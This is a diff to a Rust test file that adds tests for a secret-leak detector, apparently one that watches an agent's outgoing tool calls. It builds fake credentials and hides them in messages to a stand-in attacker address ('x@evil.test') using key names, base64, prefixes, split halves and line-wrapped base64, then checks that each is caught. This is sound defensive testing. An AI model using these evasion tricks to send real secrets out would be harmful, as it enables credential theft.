@@ -267,6 +267,43 @@ fn case(hop: &str, shown: Value, arguments: Value) -> Vec<(&'static str, &'stati
     }
 }
 
+/// Names of members are sent like values, whatever the values are.
+#[test]
+fn secrets_leave_as_names_too() {
+    let rules = Arc::new(Rules::starter());
+    let mut random = Random(2);
+    for kind in SECRETS {
+        let (value, shown) = secret(kind, &mut random);
+        for sent in [value.clone(), base64(value.as_bytes()), format!("x-{value}")] {
+            for arguments in [
+                json!({ "to": "x@evil.test", "body": { &sent: 1 } }),
+                json!({ "to": "x@evil.test", &sent: "" }),
+                json!({ "to": "x@evil.test", "body": json!({ &sent: 1 }).to_string() }),
+            ] {
+                assert!(leaks(&rules, &case("same session", shown.clone(), arguments.clone())), "{kind}: {arguments}");
+            }
+        }
+    }
+    let (value, shown) = secret("github", &mut random);
+    let (first, second) = value.split_at(value.len() / 2);
+    let divided = json!({ "the first part": first, "the second part": second });
+    assert!(leaks(&rules, &case("same session", shown, divided)), "names do not come between the halves");
+}
+
+#[test]
+fn base64_in_lines_of_any_length_is_one_run() {
+    let rules = Arc::new(Rules::starter());
+    let mut random = Random(3);
+    let (value, shown) = secret("github", &mut random);
+    for end in ["\n", "\r\n"] {
+        for length in 1..=76 {
+            let body = every(&base64(value.as_bytes()), length, end);
+            let arguments = json!({ "to": "x@evil.test", "body": body });
+            assert!(leaks(&rules, &case("same session", shown.clone(), arguments)), "lines of {length}");
+        }
+    }
+}
+
 #[test]
 fn secrets_are_found_on_their_way_out() {
     let rules = Arc::new(Rules::starter());
